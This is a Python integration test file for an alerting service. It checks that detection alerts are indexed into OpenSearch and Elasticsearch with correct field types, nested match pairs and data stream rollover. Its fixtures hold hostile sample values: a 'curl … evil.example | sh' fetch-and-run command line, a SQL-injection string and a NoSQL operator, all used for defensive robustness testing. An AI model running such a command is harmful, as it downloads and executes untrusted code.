"""The alert mapping against a real search node: entity fields searchable with their ECS types,
hostile values never rejected, the Kafka origin at its new place, ``matched`` as nested pairs.

Parametrised over search back ends by fixture name (``TARGETS``): OpenSearch, Elasticsearch 8 and 9.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import httpx
import pytest

from detectors.alert import Alert, build_alert
from detectors.model import LogSource, Match, Origin, RuleInfo
from devservices.search import SearchNode
from service.alerting.config import AlertingSettings
from service.alerting.router import AlertRouter

pytestmark = pytest.mark.integration
T0 = 1_750_000_000.0  # 2025-06-15
DAY_INDEX = "2025.06.15"
TARGETS = ["search_node", "es8_node", "es9_node"]
"""Fixture names of the search nodes the tests run against (each gives ``.url`` and ``.flavor``)."""

RULE = RuleInfo(id="map-rule", title="Mapping rule", level="high", author="Tester",
                tags=("attack.execution", "attack.t1059.004"))


@pytest.fixture(params=TARGETS)
def node(request: pytest.FixtureRequest) -> SearchNode:
    found: SearchNode = request.getfixturevalue(request.param)
    return found


def settings(node: SearchNode, prefix: str, **extra: Any) -> AlertingSettings:
    sink = {"type": "elasticsearch", "name": "search", "flavor": node.flavor, "hosts": [node.url],
            "index_prefix": prefix, "batch_size": 200, "item_retries": 1, "refresh": True,
            "retry": {"initial_backoff_s": 0.05, "max_backoff_s": 0.5, "breaker_failures": 3,
                      "breaker_reset_s": 0.5}, **extra}
    return AlertingSettings.model_validate({"sinks": [sink], "spool": {"fsync": "never"}})


def es(node: SearchNode, method: str, path: str, body: Any = None) -> dict[str, Any]:
    resp = httpx.request(method, node.url + path, json=body, timeout=30)
    assert resp.status_code < 300, resp.text
    result: dict[str, Any] = resp.json()
    return result


def count(node: SearchNode, index: str, query: dict[str, Any]) -> int:
    es(node, "POST", f"/{index}/_refresh")
    total: int = es(node, "POST", f"/{index}/_count", {"query": query})["count"]
    return total


def make(offset: int, event: dict[str, Any], source: LogSource,
         fields: tuple[tuple[str, Any], ...] = ()) -> Alert:
    return build_alert(Match(rule=RULE, fields=fields), event,
                       Origin(input="kafka", topic="audit", partition=2, offset=offset),
                       event_time=T0 + offset, now=T0 + offset, logsource=source)


async def deliver(node: SearchNode, prefix: str, batch: list[Alert], tmp_path: Path) -> dict[str, Any]:
    router = AlertRouter(settings(node, prefix), tmp_path)
    await router.start()
    await router.submit(batch)
    await router.wait_idle(60)
    status: dict[str, Any] = router.status()["search"]
    await router.stop()
    return status


CLOUDTRAIL = LogSource(product="aws", service="cloudtrail")
SYSMON = LogSource(product="linux", category="process_creation")


async def test_entity_fields_are_searchable_with_ecs_types(node: SearchNode, tmp_path: Path) -> None:
    batch = [
        make(1, {"eventName": "StopLogging", "sourceIPAddress": "198.51.100.7", "awsRegion": "eu-west-1",
                 "userIdentity": {"userName": "mallory"}}, CLOUDTRAIL),
        make(2, {"Image": "/usr/bin/bash", "CommandLine": "bash -c 'curl -s http://evil.example/x | sh'",
                 "ProcessId": 4242, "User": "runner", "DestinationIp": "203.0.113.9", "DestinationPort": "443"},
             SYSMON),
    ]
    status = await deliver(node, "ps-ent", batch, tmp_path)
    assert status["dead_lettered"] == 0
    index = f"ps-ent-{DAY_INDEX}"
    props = es(node, "GET", f"/{index}/_mapping")[index]["mappings"]["properties"]
    assert props["source"]["properties"]["ip"]["type"] == "ip"
    # Elasticsearch's integration-test distribution leaves out the `wildcard` mapper module: the sink
    # falls back to `keyword` there (a production cluster and OpenSearch have it); the query below works on both.
    wanted = {"wildcard"} if node.flavor == "opensearch" else {"wildcard", "keyword"}
    assert props["process"]["properties"]["command_line"]["type"] in wanted
    assert count(node, index, {"term": {"user.name": "mallory"}}) == 1
    assert count(node, index, {"term": {"source.ip": "198.51.100.0/24"}}) == 1  # a CIDR query: typed as ip
    assert count(node, index, {"range": {"destination.port": {"gte": 400, "lte": 500}}}) == 1
    assert count(node, index, {"wildcard": {"process.command_line": {"value": "*curl*evil.example*"}}}) == 1
    assert count(node, index, {"term": {"cloud.provider": "aws"}}) == 1
    aggs = es(node, "POST", f"/{index}/_search", {"size": 0, "aggs": {"users": {"terms": {"field": "user.name"}}}})
    assert sorted(b["key"] for b in aggs["aggregations"]["users"]["buckets"]) == ["mallory", "runner"]


async def test_hostile_values_never_get_the_alert_rejected(node: SearchNode, tmp_path: Path) -> None:
    hostile = {"SourceIp": "1.2.3.4' OR 1=1", "DestinationIp": ["::1", "x" * 70_000], "SourcePort": "99999999999999999999",
               "ProcessId": {"$gt": ""}, "User": "u" * 40_000, "CommandLine": "c" * 50_000, "Computer": ["h1", 7, None],
               "deep": [[[[{"a": 1}]]]], **{f"k{i}": i for i in range(2000)}}
    alert = make(10, hostile, SYSMON)
    status = await deliver(node, "ps-hostile", [alert], tmp_path)
    assert status["dead_lettered"] == 0
    index = f"ps-hostile-{DAY_INDEX}"
    doc = es(node, "GET", f"/{index}/_doc/{alert.id}")["_source"]
    assert doc["destination"] == {"ip": "::1"} and doc["host"] == {"name": ["h1", "7"]}
    assert "source" not in doc and "user" not in doc and "command_line" not in doc.get("process", {})
    assert doc["pipesentry"]["original_truncated"] is True  # the rest is in event.original, capped
    # the mapping stays bounded: none of the event's 2,000 keys became a field
    props = es(node, "GET", f"/{index}/_mapping")[index]["mappings"]["properties"]
    assert not any(k.startswith("k") for k in props)
    # and a malformed typed value that reached the index anyway (a redaction marker in place of an IP)
    # is ignored by the field, not a rejected document
    bad = dict(doc, source={"ip": "[REDACTED:ip:h=0123456789abcdef]", "port": "eighty"})
    resp = httpx.put(f"{node.url}/{index}/_doc/malformed?refresh=true", json=bad, timeout=30)
    assert resp.status_code in (200, 201), resp.text
    assert count(node, index, {"exists": {"field": "source.ip"}}) == 0


async def test_field_matched_value_is_one_nested_query(node: SearchNode, tmp_path: Path) -> None:
    batch = [
        make(20, {"User": "alice", "Image": "/usr/bin/curl"}, SYSMON,
             fields=(("User", "alice"), ("Image", "/usr/bin/curl"))),
        make(21, {"User": "bob", "Image": "/usr/bin/alice"}, SYSMON,
             fields=(("User", "bob"), ("Image", "/usr/bin/alice"))),
    ]
    status = await deliver(node, "ps-nested", batch, tmp_path)
    assert status["dead_lettered"] == 0
    index = f"ps-nested-{DAY_INDEX}"
    props = es(node, "GET", f"/{index}/_mapping")[index]["mappings"]["properties"]
    assert props["pipesentry"]["properties"]["matched"]["type"] == "nested"

    def matched(field: str, value: str) -> dict[str, Any]:
        return {"nested": {"path": "pipesentry.matched", "query": {"bool": {"filter": [
            {"term": {"pipesentry.matched.field": field}}, {"term": {"pipesentry.matched.value": value}}]}}}}

    assert count(node, index, matched("User", "alice")) == 1
    # a flat object mapping would also have found the second alert ("alice" under Image, User under bob)
    hits = es(node, "POST", f"/{index}/_search", {"query": matched("Image", "/usr/bin/alice")})["hits"]["hits"]
    assert [h["_id"] for h in hits] == [batch[1].id]
    assert count(node, index, matched("User", "/usr/bin/alice")) == 0
    # the origin is at its documented place, searchable
    assert count(node, index, {"bool": {"filter": [{"term": {"pipesentry.origin.topic": "audit"}},
                                                   {"term": {"pipesentry.origin.partition": 2}},
                                                   {"range": {"pipesentry.origin.offset": {"gte": 21}}}]}}) == 1


async def test_ecs_named_data_stream_rolls_over_with_the_template(node: SearchNode, tmp_path: Path) -> None:
    from service.alerting.sinks.elasticsearch import DATA_STREAM_DATASET

    stream = f"{DATA_STREAM_DATASET}-itest"
    first = [make(30 + i, {"User": f"u{i}"}, SYSMON) for i in range(5)]
    router = AlertRouter(settings(node, "unused", mode="datastream", namespace="itest"), tmp_path)
    await router.start()
    await router.submit(first)
    await router.wait_idle(60)
    # `_resolve/index`, not `GET /_data_stream` (absent from Elasticsearch's integration-test distribution)
    (info,) = es(node, "GET", f"/_resolve/index/{stream}")["data_streams"]
    assert info["name"] == stream and len(info["backing_indices"]) == 1
    rolled = es(node, "POST", f"/{stream}/_rollover")
    assert rolled["rolled_over"] is True
    second = [make(40 + i, {"User": f"v{i}", "SourceIp": "192.0.2.8"}, SYSMON) for i in range(5)]
    await router.submit(second)
    await router.wait_idle(60)
    await router.stop()
    new_index = rolled["new_index"]
    props = es(node, "GET", f"/{new_index}/_mapping")[new_index]["mappings"]["properties"]
    assert props["source"]["properties"]["ip"]["type"] == "ip"  # the template applies to every generation
    assert props["pipesentry"]["properties"]["matched"]["type"] == "nested"
    assert count(node, stream, {"match_all": {}}) == 10
    assert count(node, new_index, {"term": {"source.ip": "192.0.2.8"}}) == 5


def test_ism_policy_example_is_accepted(node: SearchNode) -> None:
    if node.flavor != "opensearch":
        pytest.skip("ISM is OpenSearch's; the ILM example is for Elasticsearch nodes with the ILM module")
    plugins = httpx.get(f"{node.url}/_cat/plugins?format=json", timeout=30).json()
    if not any("index-management" in p.get("component", "") for p in plugins):
        pytest.skip(f"this OpenSearch node runs without the index-management (ISM) plugin: {plugins!r}")
    policy = (Path(__file__).parents[2] / "deploy" / "search" / "pipesentry-alerts-ism-policy.json").read_text()
    resp = httpx.put(f"{node.url}/_plugins/_ism/policies/pipesentry-alerts-itest", content=policy,
                     headers={"Content-Type": "application/json"}, timeout=30)
    assert resp.status_code in (200, 201), resp.text
